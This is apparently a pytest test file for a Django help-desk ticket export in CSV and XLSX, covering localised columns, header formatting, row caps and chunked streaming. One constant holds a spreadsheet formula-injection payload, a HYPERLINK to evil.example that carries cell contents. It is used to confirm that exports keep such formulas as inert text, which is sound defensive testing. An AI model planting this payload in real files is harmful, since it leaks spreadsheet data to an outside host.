"""Ticket exports a person can read, that no spreadsheet evaluates, capped in
size and streamed in chunks."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

URL = "/tickets/"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def csv_rows(response):
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.getvalue())).active


@pytest.mark.django_db
def test_csv_has_titles_codes_local_minutes_and_college_names(client, make_ticket, desk, college_a):
    make_ticket(
        text="鸿蒙手机装不了企业微信",
        college=college_a,
        category="harmonyos",
        route="escalate",
        created_at=datetime(2026, 11, 20, 23, 30, 15, 123456, tzinfo=ZoneInfo("Asia/Shanghai")),
    )
    client.force_login(desk)
    header, row = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    cell = dict(zip(header, row, strict=True))
    assert cell["创建时间"] == "2026-11-20 23:30"
    assert cell["分类代码"] == "harmonyos" and cell["问题分类"] not in ("", "harmonyos")
    assert cell["处理方式代码"] == "escalate" and cell["处理方式"] == "升级至信息中心"
    assert cell["学院"] == college_a.name

    client.post("/i18n/setlang/", {"language": "en", "next": "/"})
    english = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    cell = dict(zip(english[0], english[1], strict=True))
    assert cell["College"] == college_a.name_en


@pytest.mark.django_db
def test_xlsx_has_column_widths_and_a_frozen_bold_header(client, make_ticket, desk):
    make_ticket()
    client.force_login(desk)
    sheet = xlsx_sheet(client.get(URL, {"status": "", "export": "xlsx"}))
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    assert sheet.column_dimensions["N"].width >= 40  # the candidate's words
    assert sheet["B2"].value.count(":") == 1 and len(sheet["B2"].value) == 16


@pytest.mark.django_db
def test_formulas_in_candidate_text_stay_text(client, make_ticket, desk):
    make_ticket(text=HOSTILE, candidate_name="+86电话")
    client.force_login(desk)
    header, row = csv_rows(client.get(URL, {"status": "", "export": "csv"}))
    cell = dict(zip(header, row, strict=True))
    assert cell["考生原话"] == "'" + HOSTILE and cell["考生姓名"] == "'+86电话"
    sheet = xlsx_sheet(client.get(URL, {"status": "", "export": "xlsx"}))
    texts = [c for c in sheet[2] if c.value in (HOSTILE, "+86电话")]
    assert len(texts) == 2 and all(c.data_type == "s" for c in texts)


@pytest.mark.django_db
def test_an_export_beyond_the_cap_asks_for_a_narrower_filter(client, make_ticket, desk, settings):
    settings.EXPORT_MAX_ROWS = 2
    for i in range(3):
        make_ticket(candidate_number=f"10614600000010{i}")
    client.force_login(desk)
    response = client.get(URL, {"status": "", "export": "xlsx"}, follow=True)
    page = response.content.decode()
    assert response.redirect_chain and "最多导出 2 行" in page
    assert response["Content-Type"].startswith("text/html")
    settings.EXPORT_MAX_ROWS = 3
    assert len(csv_rows(client.get(URL, {"status": "", "export": "csv"}))) == 4


@pytest.mark.django_db
def test_csv_is_streamed_in_chunks_of_many_rows(client, make_ticket, desk):
    for i in range(30):
        make_ticket(candidate_number=f"1061460000001{i:02d}")
    client.force_login(desk)
    response = client.get(URL, {"status": "", "export": "csv"})
    assert response.streaming
    chunks = list(response.streaming_content)
    assert len(chunks) <= 2 and b"".join(chunks).count(b"\n") == 31
